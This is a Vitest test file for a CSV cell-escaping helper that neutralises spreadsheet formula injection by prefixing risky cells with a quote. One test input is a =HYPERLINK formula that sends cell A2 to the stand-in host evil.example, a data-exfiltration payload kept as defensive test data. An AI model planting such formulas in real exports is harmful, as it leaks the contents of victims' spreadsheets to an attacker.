import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvCell, csvLine } from './csv.js';

describe('csvCell', () => {
  it('puts a quote in front of anything a spreadsheet would run, in a text column', () => {
    expect(csvCell('=HYPERLINK("http://evil.example/?"&A2,"x")')).toBe(`"'=HYPERLINK(""http://evil.example/?""&A2,""x"")"`);
    expect(csvCell('+1+1')).toBe("'+1+1");
    expect(csvCell('-2+3')).toBe("'-2+3");
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvCell('\t=1+1')).toBe("'\t=1+1");
    expect(csvCell('\r=1+1')).toBe(`"'\r=1+1"`);
    expect(csvCell('  =1+1')).toBe("'  =1+1");
    // Typed by a person, so text, even when it looks like a number.
    expect(csvCell('-0.5')).toBe("'-0.5");
  });

  it('leaves plain figures of a number column, and JavaScript numbers, as they are', () => {
    expect(csvCell('-0.5', 'number')).toBe('-0.5');
    expect(csvCell('-80', 'number')).toBe('-80');
    expect(csvCell(-80)).toBe('-80');
    expect(csvCell('17.4764', 'number')).toBe('17.4764');
    // Anything else in a number column is still neutralised.
    expect(csvCell('-2+3', 'number')).toBe("'-2+3");
    expect(csvCell('=1', 'number')).toBe("'=1");
  });

  it('quotes commas, quotes, line breaks and outer spaces, and leaves the rest alone', () => {
    expect(csvCell('CE5C0400,0012')).toBe('"CE5C0400,0012"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell(' padded ')).toBe('" padded "');
    expect(csvCell('月壤 a=b')).toBe('月壤 a=b');
    expect(csvCell(null)).toBe('');
  });

  it('makes lines a CSV parser reads back to the neutralised text', () => {
    const text = csvLine(['id', 'quantity', 'note'], ['text', 'number', 'text']) + csvLine(['-2+3', '-0.5', 'a,"b"\r\nc'], ['text', 'number', 'text']);
    expect(parse(text)).toEqual([
      ['id', 'quantity', 'note'],
      ["'-2+3", '-0.5', 'a,"b"\r\nc'],
    ]);
  });
});
